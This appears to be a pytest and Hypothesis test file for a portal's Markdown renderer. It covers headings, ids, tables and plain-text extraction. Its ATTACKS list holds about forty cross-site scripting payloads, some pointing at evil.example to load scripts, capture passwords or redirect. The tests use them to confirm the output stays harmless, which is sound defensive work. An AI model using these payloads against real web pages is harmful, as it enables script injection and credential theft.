import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cluster_portal.toolkit import markdown


@pytest.mark.parametrize(
    ("written", "levels"),
    [
        ("# A\n\n## B\n\n# C", [2, 3, 2]),
        ("### A\n\n### B\n\n#### C\n\n### D", [2, 2, 3, 2]),
        ("## A\n\n#### B\n\n### C\n\n## D", [2, 3, 3, 2]),
        ("#### A\n\n# B", [2, 2]),
        ("# 1\n\n## 2\n\n### 3\n\n#### 4\n\n##### 5\n\n###### 6", [2, 3, 4, 5, 6, 6]),
        ("A\n=\n\nB\n-", [2, 3]),
    ],
)
def test_headings_follow_each_other_without_a_gap(written, levels):
    html = markdown.render(written)

    assert [int(level) for level in re.findall(r"<h(\d)", html)] == levels
    assert [int(level) for level in re.findall(r"</h(\d)", html)] == levels


def test_headings_begin_where_the_page_wants_them():
    assert markdown.render("## What for", top=3) == '<h3 id="h-what-for">What for</h3>\n'


def test_a_headings_id_is_its_own():
    html = markdown.render("# Main\n\n# Main\n\n# Ședința\n\n# ?!")

    assert re.findall(r'id="([^"]+)"', html) == ["h-main", "h-main-2", "h-sedinta", "h-section"]


@pytest.mark.parametrize(
    ("written", "html"),
    [
        ("*a* **b** ~~c~~ `d`", "<em>a</em> <strong>b</strong> <s>c</s> <code>d</code>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
        ("a\n\n---\n\nb", "<p>a</p>\n<hr>\n<p>b</p>"),
        ("[us](/board/)", '<a href="/board/" rel="noopener">us</a>'),
        ("[us](https://example.org)", '<a href="https://example.org" rel="noopener">us</a>'),
        ("[us](mailto:a@example.org)", '<a href="mailto:a@example.org" rel="noopener">us</a>'),
        ("[us](tel:+40264)", '<a href="tel:+40264" rel="noopener">us</a>'),
        ("ț & ș < 3", "ț &amp; ș &lt; 3"),
        ("", ""),
    ],
)
def test_what_people_write_is_kept(written, html):
    assert html in markdown.render(written)


def test_a_table_has_headers_for_its_columns():
    html = markdown.render("| Year | Fee |\n|:-----|----:|\n| 2026 | 100 |")

    assert '<th scope="col">Year</th>' in html
    assert "<td>2026</td>" in html
    assert "style" not in html


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>",
    "<div style='position:fixed;inset:0'>over everything</div>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<b onclick=alert(1)>x</b>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '[x](/ "a" onmouseover=alert(1) b="")',
    "# <img src=x onerror=alert(1)>",
    "> > <script>alert(1)</script>",
    "- <script>\n- alert(1)\n- </script>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\x00<script\x00>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
ALLOWED = {
    "a", "blockquote", "br", "code", "del", "em", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol",
    "p", "pre", "s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = {"href", "title", "rel", "start", "scope", "id"}


class Reader(HTMLParser):
    """What a browser would find in the HTML: elements, attributes, addresses, comments."""

    def __init__(self, html: str):
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.comments: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _value in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]

    def handle_comment(self, data):
        self.comments.append(data)


def is_harmless(html: str) -> bool:
    page = Reader(html)
    schemes = {link.split(":")[0].lower() for link in page.links if ":" in link.split("/")[0]}
    return (
        page.tags <= ALLOWED
        and page.attributes <= ATTRIBUTES
        and schemes <= {"http", "https", "mailto", "tel"}
        and not page.comments
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_comes_through(attack):
    assert is_harmless(markdown.render(attack))
    assert is_harmless(markdown.render(f"Before *{attack}* after"))
    assert is_harmless(markdown.render(f"> {attack}"))


def test_the_reader_of_these_tests_knows_harm_when_it_sees_it():
    for html in ("<script>", '<a href="javascript:x">', '<p onclick="x">', "<!-- x -->", "<svg>"):
        assert not is_harmless(html)


def test_raw_html_is_shown_as_it_was_typed():
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in markdown.render("<script>alert(1)</script>")


@given(st.text(max_size=300))
def test_any_text_gives_harmless_html_and_is_never_an_error(text):
    assert is_harmless(markdown.render(text))
    markdown.to_text(markdown.render(text))


@given(st.lists(st.sampled_from([*ATTACKS, "*", "`", "\n", "\n\n", "> ", "- ", "| "]), max_size=6))
def test_attacks_that_are_put_together_stay_harmless(parts):
    assert is_harmless(markdown.render("".join(parts)))


def test_to_text_leaves_the_words_alone():
    html = markdown.render('# Fees\n\n*Ana* & Bogdan pay < 100:\n\n- one\n- two\n\n> "yes"')

    assert markdown.to_text(html) == 'Fees\nAna & Bogdan pay < 100:\none\ntwo\n"yes"'


def test_to_text_turns_what_was_escaped_back_into_signs_and_not_into_html():
    assert markdown.to_text(markdown.render("<b>x</b> &amp;lt;")) == "<b>x</b> &lt;"
